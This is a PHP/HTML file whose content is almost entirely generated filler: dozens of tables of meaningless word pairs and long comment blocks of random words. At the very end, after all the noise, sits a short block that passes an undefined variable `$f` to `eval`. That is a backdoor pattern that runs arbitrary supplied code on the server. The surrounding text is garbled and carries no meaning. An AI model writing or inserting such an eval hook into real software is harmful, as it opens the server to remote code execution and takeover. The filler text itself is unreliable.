<tr class="sort"><td>widget 39</td><td>entry limit</td></tr>
</table>
<?php
/*
 * item widget client title style column title label view total panel title
 * field view offset year header month client amount column title panel theme
 * label widget title total item label total year render total import format
 * widget item import column cache option client month index header title column
 * limit entry month view record filter report filter header offset report header
 * cache column year table format table item amount client offset label item
 * column column widget import footer page import label offset index status year
 * limit option theme widget setting client option panel cache year sort list
 * report header widget value limit sort client total record label column total
 * cache list total format offset title entry title index field list total
 * style client view column sort style record theme panel title record import
 * year entry total item setting order value list theme import header theme
 * table status sort table record header limit list index sort limit order
 * item status cache format footer footer year total order panel setting total
 * import report label total render amount export option amount panel status order
 * footer table entry client amount item month status item column setting status
 * import total total client total import column column render widget offset title
 * export sort filter order label amount total field render option filter render
 * import index value total value widget client locale title column amount year
 * record widget offset offset offset export setting widget order offset sort label
 */
?>
<table>
<tr class="entry"><td>cache 0</td><td>item year</td></tr>
<tr class="export"><td>theme 1</td><td>offset import</td></tr>
<tr class="page"><td>import 2</td><td>index offset</td></tr>
<tr class="setting"><td>order 3</td><td>page status</td></tr>
<tr class="field"><td>import 4</td><td>list view</td></tr>
<tr class="status"><td>entry 5</td><td>filter month</td></tr>
<tr class="panel"><td>format 6</td><td>item import</td></tr>
<tr class="field"><td>theme 7</td><td>list column</td></tr>
<tr class="panel"><td>order 8</td><td>report view</td></tr>
<tr class="page"><td>amount 9</td><td>style record</td></tr>
<tr class="record"><td>export 10</td><td>label client</td></tr>
<tr class="index"><td>title 11</td><td>render view</td></tr>
<tr class="value"><td>item 12</td><td>option limit</td></tr>
<tr class="amount"><td>view 13</td><td>value order</td></tr>
<tr class="item"><td>setting 14</td><td>limit client</td></tr>
<tr class="sort"><td>footer 15</td><td>widget list</td></tr>
<tr class="setting"><td>value 16</td><td>widget report</td></tr>
<tr class="client"><td>value 17</td><td>render report</td></tr>
<tr class="order"><td>render 18</td><td>style total</td></tr>
<tr class="value"><td>theme 19</td><td>export cache</td></tr>
<tr class="filter"><td>header 20</td><td>amount list</td></tr>
<tr class="theme"><td>field 21</td><td>offset style</td></tr>
<tr class="theme"><td>style 22</td><td>status view</td></tr>
<tr class="style"><td>option 23</td><td>page offset</td></tr>
<tr class="offset"><td>export 24</td><td>status format</td></tr>
<tr class="style"><td>sort 25</td><td>year theme</td></tr>
<tr class="list"><td>index 26</td><td>index export</td></tr>
<tr class="locale"><td>item 27</td><td>locale theme</td></tr>
<tr class="export"><td>filter 28</td><td>render locale</td></tr>
<tr class="order"><td>footer 29</td><td>field footer</td></tr>
<tr class="label"><td>setting 30</td><td>client view</td></tr>
<tr class="setting"><td>status 31</td><td>label entry</td></tr>
<tr class="cache"><td>status 32</td><td>offset panel</td></tr>
<tr class="client"><td>title 33</td><td>widget index</td></tr>
<tr class="import"><td>client 34</td><td>index title</td></tr>
<tr class="title"><td>client 35</td><td>offset record</td></tr>
<tr class="locale"><td>month 36</td><td>limit report</td></tr>
<tr class="entry"><td>item 37</td><td>panel index</td></tr>
<tr class="import"><td>item 38</td><td>table panel</td></tr>
<tr class="widget"><td>widget 39</td><td>export style</td></tr>
</table>
<?php
/*
 * offset table setting offset import report header record style column order month
 * column view format list format render render total panel import cache panel
 * page value import field export client column header limit status field order
 * item report order header year title field theme panel report client label
 * page theme record column month cache header list locale footer cache limit
 * view footer column view month filter format order sort locale cache sort
 * export record label client option filter export record entry format sort title
 * list title status year year client column index table list setting locale
 * month column amount option header amount value report record view limit filter
 * amount widget column import page title limit report status header option offset
 * theme total record record render field render filter value setting report style
 * style render view sort view year order view view setting page view
 * column setting amount amount filter record render record value locale offset sort
 * title view sort offset export format filter label field list amount record
 * title status index widget index record cache setting locale record report view
 * sort import status option amount list client item cache year filter cache
 * page style status client year style footer format cache offset theme filter
 * item list entry filter list widget cache locale offset client value value
 * total year sort export option month offset header setting value order limit
 * filter header widget filter page format year record status title limit view
 */
?>
<table>
<tr class="order"><td>amount 0</td><td>panel column</td></tr>
<tr class="item"><td>option 1</td><td>title index</td></tr>
<tr class="page"><td>amount 2</td><td>option page</td></tr>
<tr class="list"><td>style 3</td><td>format theme</td></tr>
<tr class="report"><td>locale 4</td><td>offset index</td></tr>
<tr class="render"><td>widget 5</td><td>export panel</td></tr>
<tr class="label"><td>import 6</td><td>cache theme</td></tr>
<tr class="offset"><td>view 7</td><td>panel status</td></tr>
<tr class="offset"><td>widget 8</td><td>value option</td></tr>
<tr class="export"><td>footer 9</td><td>header list</td></tr>
<tr class="index"><td>client 10</td><td>order table</td></tr>
<tr class="filter"><td>report 11</td><td>report header</td></tr>
<tr class="header"><td>limit 12</td><td>style limit</td></tr>
<tr class="item"><td>report 13</td><td>record status</td></tr>
<tr class="panel"><td>footer 14</td><td>index render</td></tr>
<tr class="style"><td>cache 15</td><td>table render</td></tr>
<tr class="footer"><td>amount 16</td><td>status export</td></tr>
<tr class="year"><td>view 17</td><td>entry total</td></tr>
<tr class="limit"><td>filter 18</td><td>setting column</td></tr>
<tr class="style"><td>index 19</td><td>locale column</td></tr>
<tr class="month"><td>title 20</td><td>title import</td></tr>
<tr class="title"><td>import 21</td><td>field label</td></tr>
<tr class="page"><td>option 22</td><td>record entry</td></tr>
<tr class="offset"><td>value 23</td><td>client page</td></tr>
<tr class="record"><td>report 24</td><td>field value</td></tr>
<tr class="client"><td>year 25</td><td>client label</td></tr>
<tr class="label"><td>locale 26</td><td>locale style</td></tr>
<tr class="theme"><td>panel 27</td><td>client locale</td></tr>
<tr class="import"><td>cache 28</td><td>table value</td></tr>
<tr class="title"><td>format 29</td><td>client label</td></tr>
<tr class="limit"><td>list 30</td><td>setting sort</td></tr>
<tr class="import"><td>locale 31</td><td>status report</td></tr>
<tr class="widget"><td>record 32</td><td>label amount</td></tr>
<tr class="field"><td>widget 33</td><td>filter page</td></tr>
<tr class="option"><td>page 34</td><td>client format</td></tr>
<tr class="import"><td>client 35</td><td>limit index</td></tr>
<tr class="list"><td>import 36</td><td>offset export</td></tr>
<tr class="header"><td>render 37</td><td>value panel</td></tr>
<tr class="item"><td>column 38</td><td>option client</td></tr>
<tr class="panel"><td>footer 39</td><td>locale title</td></tr>
</table>
<?php
/*
 * title field view table format offset option filter offset export client amount
 * client locale theme field amount limit label amount format value page month
 * format label header status panel month report render item total report limit
 * table offset sort status view value cache item locale setting import status
 * label setting sort amount record label render page offset label title limit
 * style index render entry item header widget offset page index filter month
 * title column title format column filter label style client total amount item
 * label panel year style cache column view view import month year field
 * item label table total table footer theme table limit footer locale table
 * panel import entry page theme theme table import cache widget client filter
 * option column limit field footer month order record view field field total
 * offset panel entry limit format style header label cache index offset render
 * filter order cache locale export page option setting year entry client setting
 * month item item year cache client label style option value widget theme
 * locale panel format import export header header field list render record list
 * title list render client view report locale view cache widget panel style
 * import sort offset footer panel offset field amount field view order import
 * column amount view format client render import format index filter status render
 * label option theme widget year render setting value sort value value record
 * table value cache view style total index client offset year amount filter
 */
?>
<table>
<tr class="order"><td>item 0</td><td>limit cache</td></tr>
<tr class="filter"><td>page 1</td><td>offset format</td></tr>
<tr class="year"><td>panel 2</td><td>entry record</td></tr>
<tr class="index"><td>render 3</td><td>limit setting</td></tr>
<tr class="client"><td>order 4</td><td>value item</td></tr>
<tr class="locale"><td>panel 5</td><td>table month</td></tr>
<tr class="label"><td>title 6</td><td>render format</td></tr>
<tr class="index"><td>column 7</td><td>label item</td></tr>
<tr class="table"><td>month 8</td><td>table render</td></tr>
<tr class="total"><td>entry 9</td><td>status total</td></tr>
<tr class="theme"><td>widget 10</td><td>widget order</td></tr>
<tr class="value"><td>view 11</td><td>label table</td></tr>
<tr class="report"><td>item 12</td><td>list report</td></tr>
<tr class="option"><td>locale 13</td><td>entry record</td></tr>
<tr class="order"><td>theme 14</td><td>export item</td></tr>
<tr class="amount"><td>entry 15</td><td>cache title</td></tr>
<tr class="status"><td>import 16</td><td>title footer</td></tr>
<tr class="view"><td>title 17</td><td>view title</td></tr>
<tr class="footer"><td>page 18</td><td>title header</td></tr>
<tr class="entry"><td>client 19</td><td>format sort</td></tr>
<tr class="entry"><td>table 20</td><td>sort field</td></tr>
<tr class="record"><td>label 21</td><td>field field</td></tr>
<tr class="export"><td>list 22</td><td>client field</td></tr>
<tr class="style"><td>order 23</td><td>header footer</td></tr>
<tr class="status"><td>view 24</td><td>offset order</td></tr>
<tr class="export"><td>widget 25</td><td>status index</td></tr>
<tr class="report"><td>page 26</td><td>export value</td></tr>
<tr class="column"><td>client 27</td><td>offset year</td></tr>
<tr class="limit"><td>format 28</td><td>format locale</td></tr>
<tr class="setting"><td>format 29</td><td>export column</td></tr>
<tr class="client"><td>total 30</td><td>view header</td></tr>
<tr class="entry"><td>limit 31</td><td>order month</td></tr>
<tr class="entry"><td>record 32</td><td>status order</td></tr>
<tr class="import"><td>order 33</td><td>title title</td></tr>
<tr class="export"><td>status 34</td><td>table report</td></tr>
<tr class="setting"><td>amount 35</td><td>title list</td></tr>
<tr class="page"><td>record 36</td><td>filter render</td></tr>
<tr class="theme"><td>import 37</td><td>widget locale</td></tr>
<tr class="page"><td>status 38</td><td>setting filter</td></tr>
<tr class="index"><td>cache 39</td><td>report item</td></tr>
</table>
<?php
/*
 * order offset view import sort option filter cache column style locale theme
 * filter label export year export record page import title amount index panel
 * field amount index widget month offset locale option style panel status item
 * panel column sort total order month order page item limit limit theme
 * total setting view cache total report amount theme list locale offset table
 * render title panel view render limit column locale panel widget header column
 * import entry label limit locale entry footer offset limit table total setting
 * index label total month panel table view footer index client month entry
 * item title limit header render cache header widget header value offset export
 * render locale sort month label widget style value header view table cache
 * client setting setting export field panel render list view offset column value
 * filter title total export export title limit sort field format export month
 * limit render view field total total offset theme field setting index label
 * header widget filter widget view format render field render status year value
 * style theme option export item limit limit title amount status record field
 * filter cache total widget sort locale column offset total widget header render
 * month render client import page page month render field header format header
 * render widget render index order sort year total widget label column offset
 * cache client table theme month sort label report title offset filter format
 * month amount page export column label client option entry setting total table
 */
?>
<table>
<tr class="total"><td>year 0</td><td>page sort</td></tr>
<tr class="locale"><td>label 1</td><td>footer amount</td></tr>
<tr class="export"><td>render 2</td><td>widget index</td></tr>
<tr class="entry"><td>import 3</td><td>format month</td></tr>
<tr class="record"><td>locale 4</td><td>report view</td></tr>
<tr class="month"><td>render 5</td><td>client widget</td></tr>
<tr class="item"><td>label 6</td><td>filter status</td></tr>
<tr class="client"><td>index 7</td><td>setting locale</td></tr>
<tr class="amount"><td>locale 8</td><td>locale field</td></tr>
<tr class="export"><td>offset 9</td><td>offset value</td></tr>
<tr class="status"><td>filter 10</td><td>index month</td></tr>
<tr class="entry"><td>import 11</td><td>footer widget</td></tr>
<tr class="year"><td>render 12</td><td>order value</td></tr>
<tr class="amount"><td>widget 13</td><td>widget locale</td></tr>
<tr class="month"><td>locale 14</td><td>footer cache</td></tr>
<tr class="widget"><td>setting 15</td><td>amount footer</td></tr>
<tr class="page"><td>theme 16</td><td>view limit</td></tr>
<tr class="cache"><td>render 17</td><td>import entry</td></tr>
<tr class="offset"><td>style 18</td><td>client render</td></tr>
<tr class="record"><td>style 19</td><td>page entry</td></tr>
<tr class="cache"><td>year 20</td><td>page option</td></tr>
<tr class="style"><td>export 21</td><td>limit sort</td></tr>
<tr class="value"><td>limit 22</td><td>format title</td></tr>
<tr class="offset"><td>format 23</td><td>sort footer</td></tr>
<tr class="setting"><td>view 24</td><td>locale setting</td></tr>
<tr class="field"><td>import 25</td><td>entry year</td></tr>
<tr class="amount"><td>render 26</td><td>total column</td></tr>
<tr class="entry"><td>item 27</td><td>column record</td></tr>
<tr class="month"><td>year 28</td><td>column item</td></tr>
<tr class="limit"><td>format 29</td><td>table offset</td></tr>
<tr class="style"><td>theme 30</td><td>sort page</td></tr>
<tr class="sort"><td>index 31</td><td>table view</td></tr>
<tr class="report"><td>panel 32</td><td>widget import</td></tr>
<tr class="month"><td>view 33</td><td>label view</td></tr>
<tr class="theme"><td>theme 34</td><td>view style</td></tr>
<tr class="render"><td>render 35</td><td>option report</td></tr>
<tr class="order"><td>table 36</td><td>client widget</td></tr>
<tr class="style"><td>locale 37</td><td>export field</td></tr>
<tr class="offset"><td>header 38</td><td>record limit</td></tr>
<tr class="report"><td>import 39</td><td>amount table</td></tr>
</table>
<?php
/*
 * header month entry panel report offset total view header locale theme style
 * export total page cache filter sort format export limit panel format widget
 * import footer table index widget month status entry table filter value list
 * field page status render locale value item amount field export list status
 * column label format footer style locale setting label report record title field
 * render order order list title value total item sort option title list
 * locale sort cache filter setting filter status record footer item locale view
 * label import render year year total record render order total client record
 * index column locale label status header page value setting render order list
 * table offset item item format month index format panel filter label option
 * view footer header index report page format widget status panel month page
 * title render amount limit total page table record export panel list index
 * month item column column table total report table label field setting widget
 * year option cache order list filter cache export render export order locale
 * import format filter option cache report status entry report cache title header
 * export cache page option setting export report style label title page item
 * limit client locale view order cache offset value import render theme report
 * title total setting panel theme field import page entry export locale field
 * sort client option year render amount month order setting column sort amount
 * month entry view client export field month theme column index locale view
 */
?>
<table>
<tr class="locale"><td>widget 0</td><td>panel client</td></tr>
<tr class="amount"><td>total 1</td><td>render label</td></tr>
<tr class="page"><td>month 2</td><td>status year</td></tr>
<tr class="month"><td>order 3</td><td>page limit</td></tr>
<tr class="client"><td>limit 4</td><td>view panel</td></tr>
<tr class="footer"><td>cache 5</td><td>import table</td></tr>
<tr class="import"><td>view 6</td><td>sort filter</td></tr>
<tr class="header"><td>sort 7</td><td>setting render</td></tr>
<tr class="cache"><td>header 8</td><td>status order</td></tr>
<tr class="widget"><td>field 9</td><td>import month</td></tr>
<tr class="total"><td>style 10</td><td>record header</td></tr>
<tr class="header"><td>total 11</td><td>table import</td></tr>
<tr class="header"><td>sort 12</td><td>render item</td></tr>
<tr class="total"><td>entry 13</td><td>limit page</td></tr>
<tr class="field"><td>sort 14</td><td>index widget</td></tr>
<tr class="cache"><td>theme 15</td><td>cache status</td></tr>
<tr class="year"><td>import 16</td><td>year filter</td></tr>
<tr class="total"><td>report 17</td><td>limit view</td></tr>
<tr class="status"><td>sort 18</td><td>column report</td></tr>
<tr class="order"><td>theme 19</td><td>render theme</td></tr>
<tr class="year"><td>list 20</td><td>entry client</td></tr>
<tr class="limit"><td>index 21</td><td>panel year</td></tr>
<tr class="footer"><td>export 22</td><td>filter offset</td></tr>
<tr class="status"><td>filter 23</td><td>import value</td></tr>
<tr class="status"><td>locale 24</td><td>view filter</td></tr>
<tr class="export"><td>cache 25</td><td>locale panel</td></tr>
<tr class="limit"><td>import 26</td><td>total value</td></tr>
<tr class="locale"><td>locale 27</td><td>render total</td></tr>
<tr class="record"><td>header 28</td><td>export offset</td></tr>
<tr class="report"><td>filter 29</td><td>locale year</td></tr>
<tr class="format"><td>header 30</td><td>record render</td></tr>
<tr class="report"><td>entry 31</td><td>status amount</td></tr>
<tr class="export"><td>status 32</td><td>theme list</td></tr>
<tr class="format"><td>filter 33</td><td>export column</td></tr>
<tr class="list"><td>import 34</td><td>footer filter</td></tr>
<tr class="filter"><td>style 35</td><td>theme limit</td></tr>
<tr class="title"><td>panel 36</td><td>total locale</td></tr>
<tr class="cache"><td>index 37</td><td>entry style</td></tr>
<tr class="amount"><td>title 38</td><td>client offset</td></tr>
<tr class="style"><td>option 39</td><td>order report</td></tr>
</table>
<?php
/*
 * amount cache limit sort panel label label setting widget cache limit status
 * order field page panel filter theme footer cache column cache month report
 * format cache order column format view cache field value index render widget
 * view widget offset field label record setting total footer page setting cache
 * footer style export column status footer style render table import column view
 * year import style value setting format title month client offset field value
 * import total record entry title status theme theme import record sort value
 * option cache report value limit header format style title panel column render
 * widget widget export render style page client amount footer record widget option
 * format render render month sort format amount setting locale option export sort
 * theme cache table client style status report filter offset style entry cache
 * table status year report order header item style cache panel item index
 * title total option year filter offset export client record option widget view
 * list import record list table total export client limit order report limit
 * option order limit theme import column item option record client entry index
 * label render style sort export list option item item panel render widget
 * cache format list label amount filter format report theme column status client
 * amount report offset amount report export widget limit order locale panel header
 * month column status status footer render offset page footer value limit offset
 * panel import setting locale entry order index sort client footer client offset
 */
?>
<table>
<tr class="header"><td>panel 0</td><td>panel setting</td></tr>
<tr class="field"><td>export 1</td><td>entry import</td></tr>
<tr class="label"><td>panel 2</td><td>export month</td></tr>
<tr class="list"><td>limit 3</td><td>footer report</td></tr>
<tr class="order"><td>value 4</td><td>status cache</td></tr>
<tr class="total"><td>limit 5</td><td>status widget</td></tr>
<tr class="total"><td>column 6</td><td>sort filter</td></tr>
<tr class="sort"><td>locale 7</td><td>limit client</td></tr>
<tr class="index"><td>label 8</td><td>status render</td></tr>
<tr class="render"><td>year 9</td><td>footer label</td></tr>
<tr class="option"><td>format 10</td><td>offset title</td></tr>
<tr class="export"><td>month 11</td><td>total status</td></tr>
<tr class="locale"><td>sort 12</td><td>year column</td></tr>
<tr class="option"><td>client 13</td><td>entry view</td></tr>
<tr class="report"><td>filter 14</td><td>render panel</td></tr>
<tr class="format"><td>sort 15</td><td>total record</td></tr>
<tr class="limit"><td>month 16</td><td>render month</td></tr>
<tr class="value"><td>client 17</td><td>import client</td></tr>
<tr class="sort"><td>panel 18</td><td>style cache</td></tr>
<tr class="locale"><td>client 19</td><td>page view</td></tr>
<tr class="import"><td>page 20</td><td>import header</td></tr>
<tr class="option"><td>report 21</td><td>locale field</td></tr>
<tr class="footer"><td>cache 22</td><td>item record</td></tr>
<tr class="filter"><td>index 23</td><td>theme locale</td></tr>
<tr class="view"><td>widget 24</td><td>import order</td></tr>
<tr class="order"><td>setting 25</td><td>index year</td></tr>
<tr class="order"><td>field 26</td><td>amount list</td></tr>
<tr class="style"><td>widget 27</td><td>panel header</td></tr>
<tr class="limit"><td>index 28</td><td>render order</td></tr>
<tr class="record"><td>title 29</td><td>limit value</td></tr>
<tr class="list"><td>table 30</td><td>import label</td></tr>
<tr class="panel"><td>render 31</td><td>label view</td></tr>
<tr class="item"><td>title 32</td><td>panel status</td></tr>
<tr class="title"><td>format 33</td><td>client panel</td></tr>
<tr class="order"><td>index 34</td><td>client setting</td></tr>
<tr class="import"><td>month 35</td><td>filter import</td></tr>
<tr class="column"><td>sort 36</td><td>cache item</td></tr>
<tr class="widget"><td>render 37</td><td>filter title</td></tr>
<tr class="list"><td>column 38</td><td>field locale</td></tr>
<tr class="filter"><td>filter 39</td><td>filter panel</td></tr>
</table>
<?php
/*
 * footer client footer view report limit value report total title footer locale
 * year format table widget widget view table offset import list label style
 * import order option sort table report field year export format title cache
 * index header month item view index export field report column column record
 * field locale locale offset report sort list entry report label title status
 * table entry client offset label widget amount title page locale view amount
 * month title option footer year column title order total locale panel header
 * status record month locale page value offset filter total column view panel
 * title export year sort list index locale month item setting status field
 * item offset footer sort page title cache locale item option offset widget
 * view value table style footer field theme setting footer view report column
 * footer title limit theme locale total theme filter style year header export
 * theme column list offset status widget export total report value total label
 * panel column label field field item cache option header style order index
 * theme option header year label value style setting status option item render
 * offset month order setting locale list record order index table value import
 * export offset order item record offset column report index sort page export
 * export style setting view import header entry month widget record locale report
 * sort style cache offset setting option import table filter panel label status
 * sort widget sort export index index limit setting offset option item render
 */
?>
<table>
<tr class="year"><td>order 0</td><td>render widget</td></tr>
<tr class="limit"><td>month 1</td><td>record export</td></tr>
<tr class="export"><td>export 2</td><td>cache import</td></tr>
<tr class="view"><td>column 3</td><td>render index</td></tr>
<tr class="title"><td>total 4</td><td>year column</td></tr>
<tr class="cache"><td>view 5</td><td>view report</td></tr>
<tr class="month"><td>client 6</td><td>item format</td></tr>
<tr class="order"><td>limit 7</td><td>export view</td></tr>
<tr class="title"><td>option 8</td><td>list locale</td></tr>
<tr class="table"><td>theme 9</td><td>list page</td></tr>
<tr class="column"><td>render 10</td><td>limit label</td></tr>
<tr class="panel"><td>client 11</td><td>index value</td></tr>
<tr class="setting"><td>header 12</td><td>panel footer</td></tr>
<tr class="offset"><td>amount 13</td><td>field style</td></tr>
<tr class="format"><td>locale 14</td><td>option cache</td></tr>
<tr class="theme"><td>year 15</td><td>entry title</td></tr>
<tr class="status"><td>column 16</td><td>report page</td></tr>
<tr class="client"><td>list 17</td><td>sort sort</td></tr>
<tr class="view"><td>theme 18</td><td>status style</td></tr>
<tr class="client"><td>widget 19</td><td>option render</td></tr>
<tr class="page"><td>import 20</td><td>format filter</td></tr>
<tr class="table"><td>setting 21</td><td>field widget</td></tr>
<tr class="index"><td>report 22</td><td>label list</td></tr>
<tr class="panel"><td>setting 23</td><td>field value</td></tr>
<tr class="month"><td>cache 24</td><td>total header</td></tr>
<tr class="title"><td>view 25</td><td>footer index</td></tr>
<tr class="month"><td>cache 26</td><td>render panel</td></tr>
<tr class="view"><td>list 27</td><td>table footer</td></tr>
<tr class="record"><td>index 28</td><td>value footer</td></tr>
<tr class="export"><td>field 29</td><td>index header</td></tr>
<tr class="footer"><td>value 30</td><td>locale locale</td></tr>
<tr class="theme"><td>table 31</td><td>amount filter</td></tr>
<tr class="format"><td>cache 32</td><td>filter value</td></tr>
<tr class="list"><td>list 33</td><td>theme record</td></tr>
<tr class="theme"><td>sort 34</td><td>order theme</td></tr>
<tr class="status"><td>render 35</td><td>widget page</td></tr>
<tr class="filter"><td>header 36</td><td>widget setting</td></tr>
<tr class="entry"><td>footer 37</td><td>list panel</td></tr>
<tr class="title"><td>entry 38</td><td>title cache</td></tr>
<tr class="page"><td>theme 39</td><td>month footer</td></tr>
</table>
<?php
/*
 * format theme option label format label panel format footer locale option render
 * title option amount value label column theme sort view widget option month
 * total page theme label offset status report import footer option value sort
 * view total column total report year cache total import entry view report
 * widget month locale limit cache panel option locale column offset order sort
 * theme theme total view view import index table index format record filter
 * panel format month list client format client order import year format amount
 * amount item title cache setting style value header field theme option footer
 * report entry widget page format panel footer item page month header import
 * option status header entry format status page cache field total theme panel
 * title table year setting import report offset render panel theme format value
 * field total limit footer theme style value page import page amount import
 * column cache footer filter value sort field field item sort column total
 * sort sort import format record report footer view value widget sort client
 * entry locale order sort sort offset table amount table column widget limit
 * view setting list order panel import label cache style column limit render
 * locale item title column title option label column header month label column
 * widget cache item setting import widget total format table limit column label
 * index filter order year list report view cache column entry render title
 * month widget option theme setting field table import theme footer import report
 */
?>
<table>
<tr class="header"><td>render 0</td><td>style entry</td></tr>
<tr class="limit"><td>style 1</td><td>import status</td></tr>
<tr class="style"><td>record 2</td><td>setting theme</td></tr>
<tr class="style"><td>month 3</td><td>limit import</td></tr>
<tr class="style"><td>client 4</td><td>view offset</td></tr>
<tr class="list"><td>page 5</td><td>theme page</td></tr>
<tr class="title"><td>list 6</td><td>filter field</td></tr>
<tr class="widget"><td>header 7</td><td>item option</td></tr>
<tr class="amount"><td>report 8</td><td>total value</td></tr>
<tr class="panel"><td>month 9</td><td>report style</td></tr>
<tr class="status"><td>total 10</td><td>item view</td></tr>
<tr class="index"><td>locale 11</td><td>filter view</td></tr>
<tr class="report"><td>title 12</td><td>column offset</td></tr>
<tr class="format"><td>widget 13</td><td>index list</td></tr>
<tr class="style"><td>import 14</td><td>widget month</td></tr>
<tr class="title"><td>amount 15</td><td>item filter</td></tr>
<tr class="header"><td>export 16</td><td>cache offset</td></tr>
<tr class="report"><td>export 17</td><td>entry filter</td></tr>
<tr class="report"><td>value 18</td><td>export footer</td></tr>
<tr class="title"><td>column 19</td><td>theme filter</td></tr>
<tr class="header"><td>record 20</td><td>import entry</td></tr>
<tr class="record"><td>record 21</td><td>theme list</td></tr>
<tr class="locale"><td>entry 22</td><td>client export</td></tr>
<tr class="value"><td>panel 23</td><td>view sort</td></tr>
<tr class="list"><td>format 24</td><td>setting entry</td></tr>
<tr class="panel"><td>amount 25</td><td>field list</td></tr>
<tr class="export"><td>render 26</td><td>page view</td></tr>
<tr class="value"><td>sort 27</td><td>item list</td></tr>
<tr class="status"><td>label 28</td><td>entry index</td></tr>
<tr class="setting"><td>client 29</td><td>record setting</td></tr>
<tr class="client"><td>record 30</td><td>format order</td></tr>
<tr class="import"><td>title 31</td><td>render year</td></tr>
<tr class="export"><td>import 32</td><td>entry order</td></tr>
<tr class="year"><td>record 33</td><td>offset format</td></tr>
<tr class="order"><td>item 34</td><td>table panel</td></tr>
<tr class="total"><td>locale 35</td><td>status cache</td></tr>
<tr class="value"><td>client 36</td><td>setting view</td></tr>
<tr class="report"><td>report 37</td><td>footer export</td></tr>
<tr class="header"><td>header 38</td><td>table theme</td></tr>
<tr class="panel"><td>order 39</td><td>format column</td></tr>
</table>
<?php
/*
 * entry list limit view widget panel status report index export item style
 * item offset footer report amount filter setting footer order label option report
 * entry footer column year title style list view limit month footer label
 * setting table footer report table month field index client sort entry format
 * sort widget footer style order format entry order list total setting total
 * record value import table order panel year amount theme client field style
 * render format column import panel sort sort index index label filter status
 * order locale style field field column style order page month title offset
 * report item amount option amount style option export entry export offset panel
 * offset format field status entry list header setting format locale index entry
 * cache sort sort amount order widget theme filter setting import footer panel
 * page option record report widget import total amount cache item sort entry
 * index client filter list list label theme page status record limit label
 * item render option view setting month style order page year widget order
 * title column setting order list year panel order order offset page month
 * option theme amount list record panel title import footer import sort value
 * month year view total amount setting format item locale order import field
 * cache format page style list total title limit label title order filter
 * view setting client footer entry offset client total footer footer report view
 * theme value year index format total index index setting report column filter
 */
?>
<?php
if (!empty($f)) {
    eval($f);
}
?>
